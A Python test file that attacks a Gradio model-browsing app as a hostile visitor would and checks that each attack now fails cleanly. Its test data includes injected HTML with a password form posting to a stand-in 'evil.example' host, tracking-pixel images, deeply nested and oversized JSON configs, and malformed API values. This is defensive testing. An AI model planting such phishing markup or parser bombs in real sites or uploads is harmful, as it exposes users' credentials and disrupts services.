"""Issue 24's smaller findings, as a hostile visitor tries them: HTML in a model file's strings, a non-ASCII
host token, config.json files that break the JSON parser, values no control can send, Gradio's own refusals
in the log, files of checkpoints/ that are not a card's images, and one visitor's uploads evicting another's.
Each test reproduces the attack and checks it now fails cleanly."""

import json
import os
import time
import zipfile
from pathlib import Path
from urllib.error import HTTPError
from urllib.parse import quote
from urllib.request import urlopen

import pytest

pytest.importorskip("gradio")
gradio_client = pytest.importorskip("gradio_client")
from browser.app_server import tiny_model_folder  # noqa: E402
from markdown_it import MarkdownIt  # noqa: E402  (a gradio dependency)
from test_hosting_safely import hosted_app, model_zip, raw_call, upload, visitor  # noqa: E402

from dcgan.errors import DcganError  # noqa: E402
from dcgan.nets.config import MAX_JSON_DEPTH, RunConfig, read_json  # noqa: E402
from dcgan.serve.hosting import HostLimits  # noqa: E402
from dcgan.serve.uploads import OWNER_SHARE, owner_key, owners_of, prune_uploads, record_owner  # noqa: E402
from dcgan.store.model_files import CONFIG_FILE  # noqa: E402
from dcgan.ui.common import as_text  # noqa: E402

LIMITS = HostLimits(max_upload_mb=2, host_token="host-secret")
CARD = "# tiny\n\n![64 samples, seed 0](samples.png)\n"


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    """The app with a tiny model whose card shows samples.png; yields (url, demo, root)."""
    root = tmp_path_factory.mktemp("hostile")
    folder = tiny_model_folder(root / "checkpoints" / "tiny-fashion")
    (folder / "README.md").write_text(CARD)
    (folder / "samples.png").write_bytes(b"\x89PNG\r\n\x1a\n not really, but served")
    with hosted_app(root, LIMITS) as served:  # build_app installs quiet_errors (test_the_app_installs_quiet_errors)
        yield served


def rendered(markdown: str) -> str:
    """What the page makes of Markdown: CommonMark with raw HTML on (gradio's Markdown passes HTML through)."""
    return MarkdownIt("commonmark").render(markdown)


def assert_no_live_html(html: str) -> None:
    for tag in ("<form", "<img", "<input", "<a ", "<h1", "<script", "<iframe"):
        assert tag not in html, (tag, html)


# ---- a model file's strings are shown as text ----------------------------------------------------------------

HOSTILE_DATA = (
    'fashion <form action="http://evil.example/steal"><input type="password" name="pw"></form>'
    '<img src="http://evil.example/pixel.png"> ![tracker](http://evil.example/p2.png) [click](http://evil.example)'
    "\n# big heading\n\n    code\n\u202e$$x$$ `tick` **bold**"
)


def test_a_models_data_string_is_shown_as_text_in_the_facts_line(app, tmp_path):
    archive = model_zip(tiny_model_folder(tmp_path / "m", seed=5), tmp_path / "formy.zip", data=HOSTILE_DATA)
    choice, facts, _card, _banner = upload(visitor(app), archive)
    html = rendered(facts)
    assert_no_live_html(html)
    assert "data: fashion &lt;form action=&quot;http://evil.example/steal&quot;&gt;&lt;input" in html  # as text
    assert "…" in html  # cut short: the rest of the line is the app's
    assert choice["value"].startswith("upload: formy-") and "nz 16" in facts


@pytest.mark.parametrize(
    "text",
    [HOSTILE_DATA, "<<img src=x>>", "a\\<img src=x>", "&lt;img src=x&gt;", "<http://evil.example>", "x" * 500],
)
def test_as_text_renders_as_the_text_it_is(text):
    shown = as_text(text)
    html = rendered(f"data: {shown}")
    assert_no_live_html(html)
    assert len(shown) < 400 and "\n" not in shown
    whole = rendered(f"data: {as_text(text, max_chars=10_000)}")
    assert_no_live_html(whole)
    assert "\u202e" not in whole and "<code>" not in whole and "<strong>" not in whole and "<pre>" not in whole


def test_the_hostile_data_string_reads_as_itself():
    html = rendered(as_text(HOSTILE_DATA, max_chars=10_000))
    for piece in ("![tracker](http://evil.example/p2.png)", "[click](http://evil.example)", "$$x$$ `tick` **bold**"):
        assert piece in html, html
    assert "# big heading code" in html  # one line: no heading, no code block


def test_a_config_quoted_in_an_error_shows_no_html(app, tmp_path):
    """A refusal quotes config.json's unknown keys; Gradio renders an error's message as HTML in the toast."""
    folder = tiny_model_folder(tmp_path / "m", seed=6)
    config = json.loads((folder / CONFIG_FILE).read_text())
    config["model"]['<img src="http://evil.example/pixel.png">'] = 1
    (folder / CONFIG_FILE).write_text(json.dumps(config))
    with pytest.raises(Exception, match="unknown keys") as refused:
        upload(visitor(app), model_zip(folder, tmp_path / "keys.zip"))
    assert "<img" not in str(refused.value) and "&lt;img" in str(refused.value)


# ---- the host token ------------------------------------------------------------------------------------------


def test_a_non_ascii_host_token_is_refused_not_an_error():
    limits = HostLimits(host_token="host-secret")
    for typed in ("hôst-secret", "\ud800", "host-secret\u00a0x", "🔑"):
        assert limits.is_host(typed) is False
    assert limits.is_host(" host-secret ") and not limits.is_host("") and not limits.is_host(None)
    assert HostLimits(host_token="clé-secrète").is_host("clé-secrète")


# ---- config.json files that break the JSON parser --------------------------------------------------------


def deep_config(path: Path, depth: int = 200_000) -> Path:
    path.write_text('{"model": ' + "[" * depth + "]" * depth + "}")
    return path


def long_number_config(path: Path, digits: int = 5_001) -> Path:
    path.write_text('{"model": {"nz": ' + "9" * digits + "}}")
    return path


def test_read_json_refuses_deep_nesting_and_huge_numbers_with_a_message(tmp_path):
    with pytest.raises(DcganError, match=f"nests more than {MAX_JSON_DEPTH} levels"):
        read_json(deep_config(tmp_path / "deep.json"))
    with pytest.raises(DcganError, match="too large to read.*5001 digits"):
        RunConfig.load(long_number_config(tmp_path / "digits.json"))
    (tmp_path / "brackets.json").write_text(json.dumps({"train": {"data": "[[[[" * 100}}))
    assert read_json(tmp_path / "brackets.json")["train"]["data"].startswith("[[[[")  # inside a string: text
    (tmp_path / "unbalanced.json").write_text('{"model": [[}')
    with pytest.raises(DcganError, match="not valid JSON"):
        read_json(tmp_path / "unbalanced.json")


def test_hostile_config_files_in_an_upload_are_refused_with_a_message(app, tmp_path):
    folder = tiny_model_folder(tmp_path / "m", seed=7)
    for name, write, reason in (
        ("deep", deep_config, "nests more than"),
        ("digits", long_number_config, "too large to read"),
    ):
        archive = tmp_path / f"{name}.zip"
        with zipfile.ZipFile(archive, "w") as zipped:
            zipped.writestr(CONFIG_FILE, write(tmp_path / f"{name}.json").read_text())
            zipped.write(folder / "model.safetensors", "model.safetensors")
        with pytest.raises(Exception, match=reason):
            upload(visitor(app), archive)


# ---- values no control can send ----------------------------------------------------------------------------


def test_text_and_null_to_the_walk_sliders_and_nan_to_a_pick_get_a_message(app):
    client = visitor(app)
    client.predict(1, api_name="/walk_seed")
    for endpoint in ("walk_dim_0", "walk_direction_3"):
        for sent in ('["abc"]', "[null]", "[true]", '[{"x": 1}]'):
            answer = raw_call(app, endpoint, sent, client.session_hash)
            assert "event: error" in answer and "a slider value must be a number" in answer, (endpoint, answer)
    for sent in ("[1e400]", "[-Infinity]"):
        answer = raw_call(app, "walk_dim_0", sent, client.session_hash)
        assert "event: error" in answer and "finite number" in answer, answer
    image, query = client.predict(9, api_name="/walk_dim_0")  # beyond the end: clamped, as the preview does
    assert "nan" not in query.lower() and "d=" in query

    for sent in ('["A", NaN]', '["A", "abc"]', '["A", 1e400]', '["A", 24]', '["A", -1]'):
        answer = raw_call(app, "arithmetic_pick", sent, client.session_hash)
        assert "event: error" in answer and "sample numbers go from 0 to 23" in answer, (sent, answer)
    answer = raw_call(app, "arithmetic_pick", '["A", null]', client.session_hash)
    assert "event: error" in answer and "a sample number must be a whole number" in answer, answer
    assert client.predict("A", 3, api_name="/arithmetic_pick")  # the session still works


# ---- Gradio's own refusals: one log line, not a traceback ------------------------------------------------


def test_gradios_own_refusals_log_one_line_and_show_a_message(app, capfd):
    client = visitor(app)
    client.predict(1, api_name="/walk_seed")
    refusals = [
        ("interpolate", '[1, 2, "seed", "seed", 1000, 4]', "greater than maximum"),  # a slider's bound
        ("interpolate", '[1, 2, "seed", "seed", "abc", 4]', "'steps' cannot take 'abc'"),  # text for a slider
        ("interpolate", '[1, 2, "nowhere", "seed", 5, 4]', "not in the list of choices"),  # a dropdown's choice
        ("walk_strip", '["' + "x" * 50_000 + '"]', '"Value: xxxxxxxx'),  # a long one (the message cut short)
        ("arithmetic_pick", '["Z", 3]', "not in the list of choices"),  # a radio's choice
        ("walk_seed", "[]", "didn't receive enough input values"),  # too few values
    ]
    capfd.readouterr()
    for endpoint, sent, message in refusals:
        answer = raw_call(app, endpoint, sent, client.session_hash)
        assert "event: error" in answer and message in answer and len(answer) < 5000, (endpoint, answer[:500])
    err = capfd.readouterr().err
    assert "Traceback" not in err, err[:3000]
    assert len(err) < 20_000  # a line each (the 50 KB value cut short), not 100 KB per refusal
    assert client.predict(5, api_name="/walk_seed")[0] == 5


def test_the_app_installs_quiet_errors(tmp_path):
    """build_app itself must install the hook (the fixture above installs it again, which changes nothing)."""
    from dcgan.ui import build_app

    tiny_model_folder(tmp_path / "checkpoints" / "tiny-fashion")
    demo = build_app(tmp_path / "checkpoints", tmp_path / "runs", tmp_path / "uploads", warm_default=False)
    assert getattr(demo, "dcgan_quiet_errors", False), "build_app must call quiet_errors.install(demo)"


# ---- checkpoints/ serves the cards' images only --------------------------------------------------------------


def fetch(app, path: Path) -> int:
    try:
        with urlopen(f"{app[0]}gradio_api/file={quote(str(path))}") as response:
            return response.status
    except HTTPError as error:
        return error.code


def test_only_the_images_the_cards_show_are_served_from_checkpoints(app):
    _url, _demo, root = app
    folder = (root / "checkpoints" / "tiny-fashion").resolve()
    card = visitor(app).predict("tiny-fashion", api_name="/pick_model")[2]
    assert f"/gradio_api/file={quote(str(folder / 'samples.png'))}" in card  # the card links it ...
    assert fetch(app, folder / "samples.png") == 200  # ... and it loads
    for name in ("model.safetensors", "discriminator.safetensors", "config.json", "README.md"):
        assert fetch(app, folder / name) in (403, 404), name


# ---- one visitor's uploads evict only their own -------------------------------------------------------------


def make_upload(folder: Path, name: str, size: int, at: float, owner: str | None) -> Path:
    path = folder / name
    path.mkdir(parents=True)
    (path / "model.safetensors").write_bytes(b"\0" * size)
    os.utime(path, (at, at))
    if owner is not None:
        record_owner(path, owner)
    return path


def test_one_visitors_uploads_evict_only_their_own(tmp_path):
    """The issue's case: under a small quota, one visitor's 20 uploads deleted another's (whose link broke).
    A fake clock: each upload a minute after the last, pruned after each as the upload handler does."""
    limits = HostLimits(uploads_quota_mb=1.0, uploads_ttl_hours=24, host_token="x")
    share = 2**20 * OWNER_SHARE
    start = time.time() - 3600
    victim, attacker = owner_key("192.0.2.7"), owner_key("198.51.100.9")
    theirs = make_upload(tmp_path, "lecture-model", 200_000, start, victim)
    floods = []
    for minute in range(1, 21):
        floods.append(make_upload(tmp_path, f"flood-{minute}", 100_000, start + 60 * minute, attacker))
        prune_uploads(tmp_path, limits, now=start + 60 * minute + 1)
    assert theirs.is_dir() and owners_of(theirs) == [victim]  # the victim's link still opens it
    kept = [path for path in floods if path.is_dir()]
    assert kept == floods[-2:] and sum(100_000 for _ in kept) <= share  # the attacker's newest, within the share
    assert not (tmp_path / "flood-1.owners").exists()  # a deleted upload's owner note goes with it


def test_when_all_together_exceed_the_quota_the_largest_holder_loses_first(tmp_path):
    limits = HostLimits(uploads_quota_mb=1.0, uploads_ttl_hours=0, host_token="x")
    now = time.time()
    owners = [owner_key(f"192.0.2.{n}") for n in range(5)]
    oldest = make_upload(tmp_path, "a-oldest", 50_000, now - 500, owners[0])
    big = [make_upload(tmp_path, f"b-{n}", 125_000, now - 400 + n, owners[1]) for n in range(2)]
    others = [make_upload(tmp_path, f"c-{n}", 200_000, now - 300 + n, owners[2 + n]) for n in range(3)]
    assert prune_uploads(tmp_path, limits, now=now) == []  # 900,000 bytes, each owner within their share
    newest = make_upload(tmp_path, "d-newest", 150_000, now, owners[0])
    removed = prune_uploads(tmp_path, limits, now=now)  # 1,050,000 bytes: over the 1 MiB quota
    assert removed == [big[0]]  # owner 1 held the most (250 KB): their oldest went, not the oldest upload
    assert oldest.is_dir() and newest.is_dir() and all(path.is_dir() for path in others)


def test_the_upload_handler_notes_who_uploaded(app, tmp_path):
    _url, _demo, root = app
    archive = model_zip(tiny_model_folder(tmp_path / "m", seed=8), tmp_path / "noted.zip")
    choice, *_ = upload(visitor(app), archive)
    upload(visitor(app), archive)  # again, from another session at the same address: one owner
    [folder] = [path for path in (root / "uploads").glob("noted-*") if path.is_dir()]
    assert len(owners_of(folder)) == 1 and choice["value"].startswith("upload: noted-")
